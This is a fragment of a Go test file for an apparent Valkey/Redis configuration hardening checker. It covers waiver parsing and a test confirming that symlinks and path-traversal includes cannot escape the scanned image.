		{"waivers: [{id: VFS-MEM-001, path: /etc/valkey/*, reason: a test, expires: 2031-01-01}]", Waived},
		{"waivers: [{id: VFS-MEM-001, path: /etc/redis/*, reason: a test, expires: 2031-01-01}]", Fail},
		{"waivers: [{id: VFS-MEM-002, reason: a test, expires: 2031-01-01}]", Fail},
	} {
		ws, err := ParseWaivers([]byte(test.text))
		if err != nil {
			t.Fatal(err)
		}
		if _, got := judge(t, tr, func(o *Options) { o.Waivers = ws }); got["VFS-MEM-001"] != test.want {
			t.Errorf("%s: %s", test.text, got["VFS-MEM-001"])
		}
	}
	for _, bad := range []string{"", "waivers: [{id: VFS-MEM-001, reason: x}]", "waivers: [{id: VFS-MEM-001, expires: 2030-01-01}]", "waivers: [{id: NO, reason: x, expires: 2030-01-01}]",
		"waivers: [{id: VFS-MEM-001, reason: x, expires: 2030-01-01, more: 1}]", "waivers: [{id: VFS-MEM-001, path: '[', reason: x, expires: 2030-01-01}]"} {
		if ws, err := ParseWaivers([]byte(bad)); err == nil {
			t.Errorf("%q: %v", bad, ws)
		}
	}
}

// TestImageIsClosed: links in an image lead nowhere else.
func TestImageIsClosed(t *testing.T) {
	outside := filepath.Join(t.TempDir(), "outside.conf")
	if err := os.WriteFile(outside, []byte("requirepass x\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	tr := hardened(t)
	tr["etc/valkey/more.conf"] = entry{link: outside}
	say("include /etc/valkey/more.conf", "include /../../../../../../.."+outside)(t, tr)
	r, got := judge(t, tr)
	if got["VFS-AUTH-002"] != NA || got["VFS-AUTH-010"] != Fail {
		t.Error(explain(r, "VFS-AUTH-002", "VFS-AUTH-010"))
	}
}
